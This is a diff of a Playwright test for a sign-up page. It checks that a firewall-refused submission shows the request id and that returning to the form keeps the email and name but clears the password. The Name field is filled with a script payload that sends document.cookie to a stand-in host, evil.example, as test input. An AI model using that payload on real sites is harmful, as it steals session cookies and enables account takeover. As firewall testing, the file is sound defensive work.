@@ -3,7 +3,8 @@ import { expect, test } from "@playwright/test";
 test("a sign-up the firewall refuses says so, with the request id, and leads back to the form", async ({ page }) => {
   await page.goto("/signup");
   await page.getByLabel("Name").fill("<script>document.location='http://evil.example/?c='+document.cookie</script>");
-  await page.getByLabel("Email").fill(`blocked-${Date.now().toString(36)}@example.org`);
+  const email = `blocked-${Date.now().toString(36)}@example.org`;
+  await page.getByLabel("Email").fill(email);
   await page.getByLabel("Password").fill("a-long-enough-password");
   await page.getByRole("button", { name: "Create account" }).click();
 
@@ -15,4 +16,8 @@ test("a sign-up the firewall refuses says so, with the request id, and leads bac
   await expect(page.getByRole("navigation").first()).toBeVisible();
   await page.getByRole("button", { name: "Back to the form" }).click();
   await expect(page.getByRole("button", { name: "Create account" })).toBeVisible();
+  // What was typed comes back (the password does not).
+  await expect(page.getByLabel("Email")).toHaveValue(email);
+  await expect(page.getByLabel("Name")).toHaveValue(/^<script>/);
+  await expect(page.getByLabel("Password")).toHaveValue("");
 });
